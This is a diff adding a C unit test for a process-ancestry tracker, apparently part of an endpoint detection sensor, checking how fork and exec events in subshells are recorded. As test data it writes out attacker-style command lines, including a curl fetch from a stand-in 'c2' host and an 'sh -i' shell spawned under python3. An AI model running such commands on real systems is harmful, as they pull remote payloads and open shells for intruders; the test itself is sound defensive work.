@@ -101,6 +101,84 @@ static void test_guid_tree_and_stub_parent(void **state)
     proctree_destroy(t);
 }
 
+static void start_full(struct proctree *t, const char *guid, const char *parent, const char *image, const char *cmd)
+{
+    proctree_start(t, &(struct proc_start){.host = "h",
+                                           .guid = guid,
+                                           .parent_guid = parent,
+                                           .pid = -1,
+                                           .ppid = -1,
+                                           .time_ns = 1,
+                                           .image = image,
+                                           .command_line = cmd,
+                                           .user = cmd ? "eng" : NULL});
+}
+
+/* "image:command line" of each process up the tree, " < " between */
+static const char *lines(struct proctree *t, const char *guid)
+{
+    static char out[1024];
+    out[0] = 0;
+    const struct proc_entry *e = proctree_find(t, "h", guid, -1, INT64_MIN);
+    if (!e)
+        return "(unknown)";
+    struct stoat_process anc[PROCTREE_MAX_DEPTH];
+    size_t n = proctree_ancestry(t, e, anc, PROCTREE_MAX_DEPTH);
+    for (size_t i = 0; i < n; i++)
+        snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s%s:%s", i ? " < " : "",
+                 anc[i].image ? anc[i].image : "?", anc[i].command_line ? anc[i].command_line : "?");
+    return out;
+}
+
+/* The live sensor's subshells: a fork (no command line) is a process between
+ * the shell and what it runs, and an exec (same GUID) makes it the program it
+ * became. Before, the exec of a known process was taken for a duplicate start
+ * and ancestry showed the subshell's first program. */
+static void test_fork_subshell_then_exec(void **state)
+{
+    (void)state;
+    struct proctree *t = proctree_create(1000, 1 << 20);
+    start_full(t, "{A}", "{S}", "bash", "bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
+    /* x=$(curl ...): bash forks a subshell, which execs curl */
+    start_full(t, "{B}", "{A}", "bash", NULL);
+    assert_string_equal(lines(t, "{B}"), "bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)"
+                                         " < bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
+    start_full(t, "{B}", "{A}", "curl", "curl -s http://c2/x");
+    assert_string_equal(lines(t, "{B}"),
+                        "curl:curl -s http://c2/x < bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
+    /* ( ... ): a subshell that does not exec, whose child does */
+    start_full(t, "{C}", "{A}", "bash", NULL);
+    start_full(t, "{D}", "{C}", "bash", NULL);
+    start_full(t, "{D}", "{C}", "id", "id");
+    assert_string_equal(chain(t, "h", "{D}", -1, INT64_MIN), "id<bash<bash");
+    const struct proc_entry *d = proctree_find(t, "h", "{D}", -1, INT64_MIN);
+    struct stoat_process anc[PROCTREE_MAX_DEPTH];
+    assert_int_equal(proctree_ancestry(t, d, anc, PROCTREE_MAX_DEPTH), 3);
+    assert_string_equal(anc[1].user, "eng"); /* the subshell is its parent's user */
+    /* a process that execs twice (bash -c 'exec python3 ...') shows the last */
+    start_full(t, "{E}", "{A}", "bash", "bash -c exec python3 -c pass");
+    start_full(t, "{E}", "{A}", "python3", "python3 -c pass");
+    start_full(t, "{F}", "{E}", "sh", "sh -i");
+    assert_string_equal(chain(t, "h", "{F}", -1, INT64_MIN), "sh<python3<bash");
+    /* all one tree */
+    uint64_t k = proctree_root_key(t, proctree_find(t, "h", "{A}", -1, INT64_MIN));
+    assert_true(k == proctree_root_key(t, d));
+    assert_true(k == proctree_root_key(t, proctree_find(t, "h", "{F}", -1, INT64_MIN)));
+    /* a start without a command line that is another program is no fork: it
+     * does not take its parent's command line */
+    start_full(t, "{G}", "{A}", "whoami", NULL);
+    assert_string_equal(lines(t, "{G}"), "whoami:? < bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
+    proctree_destroy(t);
+    /* a fork whose parent is the oldest entry of a full table: the insert
+     * evicts the parent, the child keeps its copy (ASan checks the reads) */
+    t = proctree_create(2, 1 << 20);
+    start_full(t, "{P}", NULL, "bash", "bash loop.sh");
+    start_full(t, "{Q}", "{P}", "bash", "bash other.sh");
+    start_full(t, "{R}", "{P}", "bash", NULL);
+    assert_string_equal(lines(t, "{R}"), "bash:bash loop.sh");
+    proctree_destroy(t);
+}
+
 static void test_cycle_and_depth(void **state)
 {
     (void)state;
@@ -170,6 +248,7 @@ int main(void)
         cmocka_unit_test(test_pid_reuse),
         cmocka_unit_test(test_hosts_apart),
         cmocka_unit_test(test_guid_tree_and_stub_parent),
+        cmocka_unit_test(test_fork_subshell_then_exec),
         cmocka_unit_test(test_cycle_and_depth),
         cmocka_unit_test(test_caps),
         cmocka_unit_test(test_no_session_logon),
